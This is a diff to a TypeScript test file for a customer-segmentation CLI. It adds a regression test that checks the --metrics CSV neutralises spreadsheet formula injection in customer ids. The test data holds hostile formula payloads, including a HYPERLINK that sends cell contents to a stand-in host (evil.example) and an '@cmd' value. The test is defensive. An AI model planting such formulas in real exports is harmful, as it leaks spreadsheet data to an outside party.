@@ -16,6 +16,22 @@ const ndjsonRows = (path: string) =>
     .split("\n")
     .map((line) => JSON.parse(line) as { customer_id: string; segments: string[] });
 
+/** The cells of one CSV line (RFC 4180 quoting, no line breaks inside fields). */
+function csvCells(line: string): string[] {
+  const cells: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < line.length; i++) {
+    const ch = line[i];
+    if (quoted && ch === '"' && line[i + 1] === '"') (cell += '"'), i++;
+    else if (ch === '"') quoted = !quoted;
+    else if (ch === "," && !quoted) cells.push(cell), (cell = "");
+    else cell += ch;
+  }
+  cells.push(cell);
+  return cells;
+}
+
 /** The command never shows a stack trace, whatever goes wrong. */
 function expectNoStack(stderr: string) {
   expect(stderr).not.toMatch(/^\s+at /m);
@@ -63,6 +79,32 @@ describe("segments compute", () => {
     expect(run.stderr).toMatch(/^Not counted: 2 cancelled or voided, 1 with no customer in the customers export \(guest checkouts\)\.$/m);
     const ids = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n").slice(1).map((line) => line.split(",")[0]);
     expect(ids.sort()).toEqual(["7001", "7002", "7003", "7004"]);
+  });
+
+  // Issue 9: the --metrics CSV let a customer id like =HYPERLINK(...) run as a formula in a spreadsheet.
+  it("neutralises customer ids that a spreadsheet would run as formulas in the --metrics CSV (=, +, -, @), numbers staying numbers", async () => {
+    const files = scratch();
+    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+SUM(1,1)", "-2+3", "@cmd"];
+    const quoted = (id: string) => `"${id.replace(/"/g, '""')}"`;
+    const orders = files.file(
+      "orders.csv",
+      ["customer_id,order_id,created_at,total,currency", ...hostile.map((id, i) => `${quoted(id)},o${i},2026-10-0${i + 1},59.90,EUR`), "1001,o9,2026-10-09,10.00,EUR"].join("\n"),
+    );
+    const run = await valuebar(["segments", "compute", "--orders", orders, "--out", files.path("m.ndjson"), "--metrics", files.path("metrics.csv")]);
+    expect(run.code, run.stderr).toBe(0);
+    const rows = readFileSync(files.path("metrics.csv"), "utf8").trim().split("\n").slice(1).map(csvCells);
+    const byId = new Map(rows.map((cells) => [cells[0] ?? "", cells]));
+    for (const id of hostile) {
+      // Shown as the text it is, behind the single quote a spreadsheet reads as "text".
+      const cells = byId.get(`'${id}`);
+      expect(cells, id).toBeDefined();
+      expect(cells?.[5], id).toBe("59.90");
+    }
+    expect(byId.get("1001")?.[5]).toBe("10.00");
+    for (const [cell] of rows) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // The memberships file is JSON, read by the push, not a spreadsheet: the ids stay exactly as the store wrote them.
+    const ids = readFileSync(files.path("m.ndjson"), "utf8").trim().split("\n").map((line) => (JSON.parse(line) as { customer_id: string }).customer_id);
+    for (const id of ids) expect(hostile.includes(id) || id === "1001", id).toBe(true);
   });
 
   it("reports bad rows by line and leaves them out; --strict stops and writes nothing", async () => {
